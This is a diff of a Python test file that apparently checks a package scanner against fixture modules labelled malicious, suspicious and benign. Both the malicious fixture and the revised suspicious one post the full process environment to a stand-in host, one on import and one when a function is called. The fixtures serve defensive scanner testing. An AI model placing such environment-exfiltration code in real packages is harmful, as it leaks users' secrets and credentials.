@@ -18,7 +18,10 @@ from support.scan import PYTHON_RULE, a_rule_folder, a_wheel, an_sdist, the_rule
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
 }
-SUSPICIOUS = {"widget/__init__.py": "import os\nos.system('echo imitation')"}
+SUSPICIOUS = {  # as MALICIOUS, but only when somebody calls it
+    "widget/__init__.py": "import os, requests\n"
+    "def report():\n    requests.post('https://x.example.invalid', json=dict(os.environ))"
+}
 BENIGN = {"widget/__init__.py": "VERSION = 1\n"}
 
 
